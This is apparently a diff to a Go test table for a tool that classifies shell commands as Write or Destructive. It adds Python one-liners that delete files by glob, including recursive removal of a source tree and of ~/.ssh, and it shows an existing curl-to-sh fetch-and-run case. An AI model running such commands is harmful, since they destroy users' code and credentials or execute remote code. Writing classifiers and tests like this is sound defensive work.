@@ -5335,6 +5335,16 @@ print(delete_old(1))"`, Write},
 		{`curl -sL https://x.example/a.tar | tar -x --to-command=sh`, Destructive},
 		{`tar -xf c.tar --to-command=md5sum`, Write},
 		{`tar -xf c.tar --to-command='cat >> all.txt'`, Write},
+		// round r49b: pathlib globs in a loop are judged as rm of the glob
+		{"python3 - <<'EOF'\nimport pathlib, shutil\nfor p in pathlib.Path('src').glob('*.egg-info'):\n    shutil.rmtree(p)\nEOF", Write},
+		{`python3 -c "import shutil,pathlib; [shutil.rmtree(p) for p in pathlib.Path('.').rglob('__pycache__')]"`, Write},
+		{`python3 -c "from pathlib import Path; import shutil; [shutil.rmtree(p) for p in Path.cwd().rglob('.pytest_cache')]"`, Write},
+		{`python3 -c "import pathlib; [p.unlink() for p in sorted(pathlib.Path('.').rglob('*.pyc'))]"`, Write},
+		{`python3 -c "import shutil,pathlib; [shutil.rmtree(p) for p in pathlib.Path('src').rglob('*')]"`, Destructive},
+		{`python3 -c "import shutil,pathlib; [shutil.rmtree(p) for p in pathlib.Path('src').glob('**/*')]"`, Destructive},
+		{`python3 -c "import pathlib; [p.unlink() for p in pathlib.Path('src').rglob('*.py')]"`, Destructive},
+		{`python3 -c "import shutil,pathlib; [shutil.rmtree(p) for p in pathlib.Path.home().glob('.ssh')]"`, Destructive},
+		{`python3 -c "import shutil,pathlib; [shutil.rmtree(p) for p in pathlib.Path(d).glob('*')]"`, Destructive},
 		// round r49b end
 	}
 	for _, tc := range tests {
